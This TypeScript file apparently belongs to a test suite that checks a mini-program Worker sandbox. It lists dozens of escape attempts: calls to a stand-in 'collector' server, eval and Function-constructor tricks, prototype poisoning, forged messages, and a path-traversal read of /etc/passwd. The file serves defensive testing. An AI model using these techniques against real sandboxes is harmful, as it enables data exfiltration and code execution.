import { engineGlobals, knownGlobals, moreAttempts } from "./more-attempts.ts";

/**
 * Attempts of a hostile mini-program. Each is the body of an async function that runs as user code in the Worker. It
 * returns `true` if it got hold of something forbidden. Whatever it sends goes to `collector`, a server that must never
 * receive a request.
 *
 * In scope: `collector` (an origin), `socket` (the same for sockets), `base` (this app's folder on its origin), `host`
 * (the host page's origin), `chunk` (URL of the app's own chunk), `wait` (milliseconds), `get` (a global by name),
 * `called` (whether calling a function of wx succeeds).
 */
export interface Attempt {
  readonly name: string;
  readonly code: string;
}

/**
 * Globals that send, store or compile something, or lead to objects that do. Each is an attempt that checks whether it
 * can be reached.
 */
export const dangerousGlobals: readonly string[] = [
  ..."fetch XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource RTCPeerConnection importScripts".split(
    " ",
  ),
  ..."indexedDB caches localStorage sessionStorage BroadcastChannel MessageChannel Worker SharedWorker".split(" "),
  ..."ServiceWorkerContainer navigator location self window document parent top opener frames postMessage".split(" "),
  ..."onmessage addEventListener dispatchEvent URL Blob File FileReader FileReaderSync Request Response Headers".split(
    " ",
  ),
  ..."crypto performance close name origin WebAssembly OffscreenCanvas createImageBitmap FontFace fonts".split(" "),
  ..."Notification structuredClone reportError trustedTypes scheduler Cache CacheStorage IDBFactory".split(" "),
  ..."StorageManager LockManager FileSystemHandle SharedArrayBuffer Atomics requestAnimationFrame".split(" "),
  ..."webkitRequestFileSystem webkitRequestFileSystemSync webkitResolveLocalFileSystemURL ReportingObserver".split(" "),
  ..."PerformanceObserver Event EventTarget MessagePort DedicatedWorkerGlobalScope WorkerGlobalScope".split(" "),
  ..."WorkerNavigator WorkerLocation CompressionStream ReadableStream FormData AbortController btoa atob".split(" "),
];

const send: readonly Attempt[] = [
  {
    name: "names of a browser are there, and nothing",
    code: `try { return [window, document, self, location, navigator, localStorage, XMLHttpRequest, WebSocket].some((one) => one !== undefined); } catch { return true; }`,
  },
  { name: "fetch by name", code: `await fetch(collector); return true;` },
  { name: "fetch through this", code: `await (function () { return this; })().fetch(collector); return true;` },
  { name: "XMLHttpRequest", code: `const x = new XMLHttpRequest(); x.open("GET", collector); x.send(); return true;` },
  { name: "WebSocket", code: `new WebSocket(socket); return true;` },
  { name: "EventSource", code: `new EventSource(collector); return true;` },
  { name: "sendBeacon", code: `return navigator.sendBeacon(collector, "x");` },
  { name: "importScripts", code: `importScripts(collector + "/x.js"); return true;` },
  { name: "importScripts of the own chunk with a query", code: `importScripts(chunk + "?secret"); return true;` },
  { name: "import() of a remote script", code: `await import(collector + "/x.js"); return true;` },
  { name: "import() of a data URL", code: `await import("data:text/javascript,export default 1"); return true;` },
  {
    name: "import() of a blob",
    code: `await import(URL.createObjectURL(new Blob(["export default 1"]))); return true;`,
  },
  { name: "import() of the host page's script", code: `await import(host + "/host.js"); return true;` },
  {
    name: "import() of another app's file",
    code: `await import(base.replace("hostile", "other") + "_miniapp/logic.js"); return true;`,
  },
  { name: "import() of a package file that is no chunk", code: `await import(base + "data/evil.js"); return true;` },
  { name: "import() of the own chunk with a query", code: `await import(chunk + "?secret"); return true;` },
  { name: "import() of the own chunk with an encoded query", code: `await import(chunk + "%3Fsecret"); return true;` },
  {
    name: "import() of the runtime",
    code: `await import(new base.constructor(base).replace("/p/", "/") + "worker.js"); return true;`,
  },
  {
    name: "import() of a part of the runtime that is none",
    code: `await import(new base.constructor(base).replace("/p/", "/") + "c/worker-secret.js"); return true;`,
  },
  {
    name: "import() of a part of the runtime with a query",
    code: `await import(new base.constructor(base).replace("/p/", "/") + "c/worker-rare.js?secret"); return true;`,
  },
  { name: "import() of a development endpoint", code: `await import(host + "/__open-in-editor?file=x"); return true;` },
  { name: "WebTransport", code: `new WebTransport(collector); return true;` },
  {
    name: "RTCPeerConnection",
    code: `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }); return true;`,
  },
  { name: "FontFace", code: `await new FontFace("x", "url(" + collector + ")").load(); return true;` },
  {
    name: "createImageBitmap of a fetched picture",
    code: `await createImageBitmap(await (await fetch(collector)).blob()); return true;`,
  },
  { name: "ReportingObserver and reports", code: `new ReportingObserver(() => {}).observe(); return true;` },
  {
    name: "wx.request to a domain that is not the package's",
    code: `return called("request", { url: collector + "/request" });`,
  },
  {
    name: "wx.request by a look-alike",
    code: `return called("request", { url: collector.replace("http://", "https://allowed.example@") });`,
  },
  { name: "wx.downloadFile", code: `return called("downloadFile", { url: collector + "/file" });` },
  {
    name: "wx.uploadFile",
    code: `const f = wx.env.USER_DATA_PATH + "/a"; wx.getFileSystemManager().writeFileSync(f, "x"); return called("uploadFile", { url: collector, filePath: f, name: "f" });`,
  },
  {
    name: "wx.connectSocket",
    code: `const task = wx.connectSocket({ url: socket }); return new Promise((resolve) => { task.onOpen(() => resolve(true)); task.onError(({ errMsg }) => resolve(errMsg)); });`,
  },
];

const store: readonly Attempt[] = [
  { name: "IndexedDB", code: `indexedDB.open("stolen"); return true;` },
  { name: "caches", code: `await caches.open("stolen"); return true;` },
  { name: "origin-private files", code: `await navigator.storage.getDirectory(); return true;` },
  { name: "old file system", code: `webkitRequestFileSystemSync(0, 1024); return true;` },
  { name: "cookie store", code: `await cookieStore.set("a", "b"); return true;` },
  { name: "locks", code: `await navigator.locks.request("x", () => {}); return true;` },
  { name: "BroadcastChannel", code: `new BroadcastChannel("x").postMessage(1); return true;` },
  { name: "SharedWorker", code: `new SharedWorker(base + "data/evil.js"); return true;` },
  { name: "Worker in the Worker", code: `new Worker(chunk); return true;` },
  { name: "Worker of a blob", code: `new Worker(URL.createObjectURL(new Blob(["1"]))); return true;` },
  { name: "Service Worker", code: `await navigator.serviceWorker.register(chunk); return true;` },
];

/** The runtime passes its parts what they need through a global that exists only while a part is loading. */
const parts: readonly Attempt[] = [
  {
    name: "what a part of the runtime is handed while it is loaded",
    code: `const { defineProperty } = Object; let taken; defineProperty(globalThis, "__miniapp_part__", { configurable: true, get: () => undefined, set: (v) => (taken = v) }); Object.defineProperty = Reflect.defineProperty = (...v) => { if (v[1] === "__miniapp_part__") taken = v[2]; return defineProperty(...v); }; try { if (typeof wx.createSelectorQuery().exec !== "function") return true; } finally { Object.defineProperty = defineProperty; } return taken !== undefined;`,
  },
  { name: "what parts of the runtime call", code: `return get("__miniapp_part__") !== undefined;` },
];

const compile: readonly Attempt[] = [
  { name: "eval", code: `return eval("1") === 1;` },
  { name: "indirect eval", code: `return (0, eval)("1") === 1;` },
  { name: "new Function", code: `return new Function("return 1")() === 1;` },
  { name: "Function()", code: `return Function("return this")() !== undefined;` },
  { name: "constructor of a function", code: `return (function () {}).constructor("return 1")() === 1;` },
  { name: "constructor of an arrow function", code: `return (() => {}).constructor("return 1")() === 1;` },
  { name: "constructor of a method", code: `return [].map.constructor("return 1")() === 1;` },
  {
    name: "constructor of an async function",
    code: `return (await (async () => {}).constructor("return 1")()) === 1;`,
  },
  { name: "constructor of a generator", code: `return (function* () {}).constructor("yield 1")().next().value === 1;` },
  {
    name: "constructor of an async generator",
    code: `return (await (async function* () {}).constructor("yield 1")().next()).value === 1;`,
  },
  { name: "constructor of a class", code: `return (class {}).constructor("return 1")() === 1;` },
  { name: "constructor of wx's functions", code: `return wx.request.constructor("return 1")() === 1;` },
  {
    name: "constructor by Reflect",
    code: `return Reflect.construct(Reflect.get(Function.prototype, "constructor"), ["return 1"])() === 1;`,
  },
  {
    name: "setting the constructor back",
    code: `Object.defineProperty(Function.prototype, "constructor", { value: 1 }); return true;`,
  },
  {
    name: "a constructor by assignment",
    code: `const own = function () {}; own.constructor = 1; if (own.constructor !== 1) return true;
      Function.prototype.constructor = Object; return (function () {}).constructor === Object;`,
  },
  { name: "prototype of Function", code: `return Object.getPrototypeOf(Function).constructor("return 1")() === 1;` },
  {
    name: "string timer",
    code: `globalThis.__hit = 0; setTimeout("globalThis.__hit = 1", 0); await wait(50); return globalThis.__hit === 1;`,
  },
  {
    name: "string interval",
    code: `globalThis.__hit = 0; setInterval("globalThis.__hit = 1", 1); await wait(50); return globalThis.__hit === 1;`,
  },
  {
    name: "timer with an object that becomes text",
    code: `globalThis.__hit = 0; setTimeout({ toString: () => "globalThis.__hit = 1" }, 0); await wait(50); return globalThis.__hit === 1;`,
  },
  {
    name: "raw timer on a prototype",
    code: `for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, "setTimeout"); if (o !== globalThis && d) return true; } return false;`,
  },
  {
    name: "WebAssembly",
    code: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return true;`,
  },
  { name: "javascript in a data URL of a Worker", code: `new Worker("data:text/javascript,1"); return true;` },
];

const walk: readonly Attempt[] = [
  {
    name: "every property of the global object and its prototypes",
    code: `const bad = []; for (let o = globalThis; o && o !== Object.prototype; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) if (dangerous.includes(String(k)) && o[k] !== undefined) bad.push(String(k)); if (bad.length) throw new Error("FOUND " + bad); return false;`,
  },
  {
    name: "constructor of the global object",
    code: `const c = globalThis.constructor; return c !== Object && c !== undefined;`,
  },
  {
    name: "prototype of the global object",
    code: `const p = Object.getPrototypeOf(globalThis); return ["postMessage", "addEventListener", "constructor", "close"].some((n) => p !== Object.prototype && Object.hasOwn(p, n));`,
  },
  {
    name: "this of a sloppy function",
    code: `const g = (function () { return this; })(); return g.postMessage !== undefined || g.fetch !== undefined || g.self !== undefined;`,
  },
  {
    name: "this of a timer",
    code: `return new Promise((resolve) => setTimeout(function () { resolve(this !== undefined && (this.fetch !== undefined || this.postMessage !== undefined)); }));`,
  },
  {
    name: "caller of a function",
    code: `function f() { return f.caller; } const c = f(); return typeof c === "function" && !String(c).includes("f.caller");`,
  },
  {
    name: "stack frames by prepareStackTrace",
    code: `Error.prepareStackTrace = (_, frames) => frames; const frames = new Error().stack; return typeof frames !== "string";`,
  },
  {
    name: "stack frames by a defined prepareStackTrace",
    code: `Object.defineProperty(Error, "prepareStackTrace", { value: (_, frames) => frames }); return true;`,
  },
  {
    name: "receiver of a frame",
    code: `const o = {}; Error.captureStackTrace(o); return typeof o.stack !== "string";`,
  },
  { name: "registering modules later", code: `__miniapp_define__("main", { "x.js": [() => {}] }, {}); return true;` },
  {
    name: "the port through a poisoned prototype",
    code: `let seen = false; const bind = Function.prototype.bind; const call = Function.prototype.call; const set = Map.prototype.set;
      Map.prototype.set = function (k, v) { if (v && typeof v === "object" && /MessagePort/.test(Object.prototype.toString.call(v))) seen = v; return Reflect.apply(set, this, [k, v]); };
      try { wx.getNetworkType({}); await wait(20); } finally { Map.prototype.set = set; }
      return seen !== false && typeof seen.constructor === "function" && seen.fetch !== undefined;`,
  },
  {
    name: "EventTarget through a port-like object",
    code: `for (const v of Object.values(wx)) if (typeof v === "object" && v && typeof v.postMessage === "function") return true; return false;`,
  },
  {
    name: "an error's realm",
    code: `try { null.x; } catch (e) { return e.constructor.constructor("return 1")() === 1; }`,
  },
  { name: "a promise's realm", code: `return wx.getNetworkType({}).constructor.constructor("return 1")() === 1;` },
  {
    name: "an array buffer's realm",
    code: `return wx.base64ToArrayBuffer("AAAA").constructor.constructor("return 1")() === 1;`,
  },
  { name: "console's realm", code: `return console.log.constructor("return 1")() === 1;` },
  { name: "an iterator's realm", code: `return [][Symbol.iterator]().next.constructor("return 1")() === 1;` },
  {
    name: "a proxy around the global object",
    code: `const p = new Proxy(globalThis, {}); return p.fetch !== undefined || p.postMessage !== undefined;`,
  },
  {
    name: "getters of the interface objects",
    code: `for (const n of Object.getOwnPropertyNames(globalThis)) { const v = globalThis[n]; if (typeof v === "function" && v.prototype && "fetch" in Object(v.prototype)) return true; } return false;`,
  },
];

const forge: readonly Attempt[] = [
  {
    name: "postMessage to the frame that created the Worker",
    code: `postMessage({ type: "miniapp-problem", id: 0, message: "forged" }); return true;`,
  },
  {
    name: "listening to the Worker's messages",
    code: `onmessage = () => {}; addEventListener("message", () => {}); return true;`,
  },
  {
    name: "a service that is none",
    code: `return (await wx.openEmbeddedMiniProgram({ appId: "__proto__" })) === undefined;`,
  },
  { name: "closing the Worker", code: `close(); return true;` },
  {
    name: "a Worker outside of the workers' folder",
    code: `const w = wx.createWorker(collector + "/x.js"); await wait(200); return w === 1;`,
  },
  {
    name: "a file outside of the package",
    code: `wx.getFileSystemManager().readFileSync("/../../etc/passwd", "utf8"); return true;`,
  },
  {
    name: "a file of the generated folder",
    code: `return wx.getFileSystemManager().readFileSync("/_miniapp/app.json", "utf8").length > 0;`,
  },
  {
    name: "a file by its URL",
    code: `wx.getFileSystemManager().readFileSync(base + "_miniapp/app.json", "utf8"); return true;`,
  },
];

export const attempts: readonly Attempt[] = [
  ...dangerousGlobals.map((name) => ({
    name: `global ${name}`,
    code: `return get(${JSON.stringify(name)}) !== undefined;`,
  })),
  ...send,
  ...store,
  ...parts,
  ...compile,
  ...walk,
  ...forge,
];

/** A script that makes all attempts in order, and writes each result to the console as a line of JSON. */
export function hostileScript(context: Readonly<Record<string, string>>): string {
  const list = [...moreAttempts, ...attempts]
    .map(({ name, code }) => `[${JSON.stringify(name)}, async () => { ${code} }]`)
    .join(",\n");
  return `
const { collector, socket, host } = ${JSON.stringify(context)};
// An app knows where it runs, even where the address is random.
const [base] = new RegExp("https?://[^\\\\s@()]+/a/[\\\\w-]+/p/").exec(new Error().stack);
const chunk = base + "_miniapp/logic.js", more = base + "more/_miniapp/logic.js";
const knownGlobals = ${JSON.stringify(knownGlobals)}, engineGlobals = ${JSON.stringify(engineGlobals)};
const dangerous = ${JSON.stringify(dangerousGlobals)};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const get = (name) => globalThis[name];
const called = (name, options) => new Promise((resolve, reject) => wx[name]({ ...options, success: () => resolve(true), fail: reject }));
const list = [${list}];
(async () => {
  for (const [name, attempt] of list) {
    let result;
    try {
      const value = await Promise.race([attempt(), wait(3000).then(() => "late")]);
      result = value === true ? "SUCCEEDED" : "failed: " + String(value);
    } catch (error) {
      result = "failed: " + (error && (error.message || error.errMsg) || error);
    }
    console.log("attempt", name, result);
  }
  console.log("done");
})();
`;
}
